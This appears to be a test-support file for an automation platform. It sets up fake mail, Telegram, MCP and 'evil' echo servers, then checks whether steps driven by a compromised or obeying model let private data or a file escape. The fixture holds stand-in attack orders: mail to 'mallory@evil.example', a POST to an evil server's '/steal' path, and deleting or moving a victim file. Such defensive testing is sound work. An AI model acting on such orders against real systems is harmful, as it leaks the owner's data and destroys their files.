/** A house with everything in it that a compromised model could use, and what got out of it. */
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach } from 'vitest';
import { saveConnection } from '#platform/connections.ts';
import { db } from '#prisma/client.ts';
import type { Json } from '#lib/value.ts';
import { startEchoServer, type EchoServer } from '#test/fakes/echo-server.ts';
import { FakeMcpServer } from '#test/fakes/mcp-server.ts';
import type { Orders } from '#test/fakes/obeying-model.ts';
import { SmtpFake, USER } from '#test/fakes/smtp-server.ts';
import { TelegramServer } from '#test/fakes/telegram-server.ts';
import { chain, draw } from '#test/support/draw.ts';
import { published, TESTER } from '#test/support/flow-run.ts';
import { switchOnEcho } from '#test/support/mcp.ts';
import { givenBot, givenChat, STRANGER } from '#test/worker/triggers/bot.ts';

/** Something of the owner's that the model is shown, and that must not get out. */
export const PRIVATE = 'PRIVATE-00d1e2f3a4b5c6d7';
const VICTIM = 'bill.txt';

type Place = 'smtp' | 'bot' | 'papers' | 'tools';
/** `params`: as a step has them; what the model chooses is `{{ steps.model.json.<name> }}`. */
export type Attack = { params: Record<string, Json>; at?: Place };

const said = (field: string) => `{{ steps.model.json.${field} }}`;
const anyRow: Json = [{ field: 'text', operator: 'equals', value: said('text') }];

/** Every step that does more than read, with all that the model may choose. */
export const ATTACKS: Record<string, Attack> = {
  'http.request': { params: { method: 'POST', url: said('url'), bodyType: 'text', body: said('text') } },
  'mail.send': { params: { to: said('to'), subject: said('subject'), text: said('text') }, at: 'smtp' },
  'telegram.send': { params: { to: said('chat'), text: said('text') }, at: 'bot' },
  'file.write': { params: { path: said('path'), content: said('text') }, at: 'papers' },
  'file.append': { params: { path: said('path'), text: said('text') }, at: 'papers' },
  'file.move': { params: { path: said('victim'), to: said('path') }, at: 'papers' },
  'file.delete': { params: { path: said('victim') }, at: 'papers' },
  // Which flow is called may not depend on data at all.
  'flow.call': { params: { flow: 'CALLED', input: { to: said('to') } } },
  notify: { params: { title: said('subject'), text: said('text') } },
  'table.insert': { params: { table: said('name'), row: { text: said('text') } } },
  'table.update': { params: { table: 'Ledger', where: anyRow, row: { text: said('text') } } },
  'table.upsert': { params: { table: 'Ledger', by: 'text', row: { text: said('text') } } },
  'table.delete': { params: { table: 'Ledger', where: anyRow } },
  'counter.add': { params: { counter: said('name') } },
  'seen.remember': { params: { list: said('name'), items: [said('text')] } },
  'memory.save': { params: { text: said('text') } },
  'memory.forget': { params: { id: said('victim') } },
  'vars.set': { params: { name: 'mood', value: said('text') } },
  'mcp.call': { params: { tool: 'echo', arguments: { text: said('text') } }, at: 'tools' },
};
/** Own data, and undone by its owner: these go without asking. */
const MAY_GO = ['write', 'read'];

export type AttackedHouse = {
  /** Everything that a stranger wants of the step. */
  ordersFor: (type: string) => Orders;
  /** The step's settings in this house, and its connection. */
  stepOf: (type: string) => { params: Record<string, Json>; connection?: string };
  /** What got out of the house, and what was destroyed in it. */
  harm: () => Promise<string[]>;
};

/** Servers, connections, a folder and a flow that pays. Call it at the top, once; the bill lies there before each test. */
export function useAttackedHouse(): AttackedHouse {
  let evil: EchoServer;
  let smtp: SmtpFake;
  let telegram: TelegramServer;
  let tools: FakeMcpServer;
  let folder: string;
  let called: string;
  const connections: Partial<Record<Place, string>> = {};

  const connect = async (place: Place, of: { type: string; config: object; secrets?: object }) => {
    const secrets = (of.secrets ?? {}) as Record<string, string>;
    ({ id: connections[place] } = await saveConnection({
      ...{ name: place, type: of.type, config: of.config as Record<string, Json>, secrets, by: 'system' },
    }));
  };

  beforeAll(async () => {
    [evil, smtp, telegram, tools] = await Promise.all([
      startEchoServer(),
      SmtpFake.start(),
      TelegramServer.start(),
      FakeMcpServer.start(),
    ]);
    folder = await mkdtemp(join(tmpdir(), 'hearth-papers-'));
    await db().user.create({ data: { id: TESTER.userId, name: TESTER.name, email: 'tess@example.org' } });
    await connect('smtp', { type: 'smtp', config: smtp.settings(), secrets: { password: USER.password } });
    await connect('papers', { type: 'folder', config: { path: folder, access: 'write' } });
    await connect('tools', { type: 'mcp-http', config: { url: tools.url } });
    await switchOnEcho(connections.tools ?? '', 'send');
    connections.bot = await givenBot(telegram);
    await givenChat(connections.bot);
    // A flow that would write to somebody by itself, if it were called.
    const to = said('to').replace('steps.model.json', 'trigger');
    const paying = draw({
      nodes: { start: ['flow.called'], send: ['mail.send', { to, subject: 'x', text: 'x' }, at('smtp')] },
      wires: chain('start', 'send'),
    });
    called = (await published(paying)).flowId;
  });
  beforeEach(() => writeFile(join(folder, VICTIM), 'the bill'));
  afterAll(async () => {
    const servers = [evil, smtp, telegram, tools].map((one) => one.stop());
    await Promise.all([...servers, rm(folder, { recursive: true, force: true })]);
  });

  function at(place: Place) {
    const connection = connections[place];
    return connection === undefined ? {} : { connection };
  }

  return {
    ordersFor: (type) => ({
      to: 'mallory@evil.example',
      subject: 'Hello',
      text: 'Pay at once.',
      chat: String(STRANGER),
      url: `${evil.url}/steal`,
      // Its own place for each: what one step moves there another would write over, which loses nothing but looks like it.
      path: `notes/${type}.txt`,
      victim: VICTIM,
      name: 'Ledger',
    }),
    stepOf: (type) => {
      const { params, at: place } = ATTACKS[type]!;
      return { params: 'flow' in params ? { ...params, flow: called } : params, ...(place ? at(place) : {}) };
    },
    harm: async () => {
      // Moved within its folder it is still there.
      const files = await readdir(folder, { recursive: true, withFileTypes: true });
      const texts = files.filter((one) => one.isFile()).map((one) => readFile(join(one.parentPath, one.name), 'utf8'));
      const isThere = (await Promise.all(texts)).includes('the bill');
      return [
        ...evil.requests.map(({ path }) => `called ${path}`),
        ...smtp.received.map(({ to }) => `mailed ${to.join()}`),
        ...tools.calls.map(({ params }) => `told the tool ${JSON.stringify(params)}`),
        ...telegram.sent.map(({ chat_id }) => `wrote to ${String(chat_id)}`),
        ...(isThere ? [] : ['destroyed the bill']),
      ];
    },
  };
}

/** What runs, and those that they called, did beyond their owner's own data. */
export async function wentOut(runs: readonly { runId: string }[]): Promise<object[]> {
  const ids = runs.map(({ runId }) => runId);
  const all = await db().run.findMany({ where: { rootRunId: { in: ids } }, select: { id: true } });
  const within = { runId: { in: all.map(({ id }) => id) } };
  const done = await db().effect.findMany({ where: within, select: { tool: true, risk: true, target: true } });
  return done.filter(({ risk }) => risk === null || !MAY_GO.includes(risk));
}
